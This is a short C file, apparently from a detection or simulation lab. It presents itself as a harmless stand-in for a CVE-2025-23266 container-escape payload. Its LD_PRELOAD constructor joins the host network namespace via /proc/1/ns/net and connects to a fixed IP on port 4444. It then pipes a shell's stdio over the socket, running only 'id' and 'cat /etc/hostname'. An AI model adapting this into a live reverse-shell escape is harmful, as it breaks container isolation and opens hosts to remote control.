/* Harmless stand-in for the CVE-2025-23266 PoC payload (ctrsploit vul/cve-2025-23266/material/evil.go):
   runs inside the hook process, joins the host net namespace, dials the "attacker",
   and runs a non-interactive shell with stdio on the socket. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <sched.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>
__attribute__((constructor)) static void payload(void) {
    unsetenv("LD_PRELOAD");
    int ns = open("/proc/1/ns/net", O_RDONLY);          /* OPEN of a host ns file */
    if (ns >= 0) { setns(ns, CLONE_NEWNET); close(ns); } /* SETNS (ext probe) */
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(4444) };
    inet_pton(AF_INET, "10.200.2.2", &a.sin_addr);
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0) return; /* CONNECT */
    if (fork() == 0) {
        dup2(s, 0); dup2(s, 1); dup2(s, 2);               /* stdio over socket */
        execl("/bin/sh", "sh", "-c", "id; cat /etc/hostname; echo nvidiascape-sim", (char *)0);
        _exit(1);
    }
}
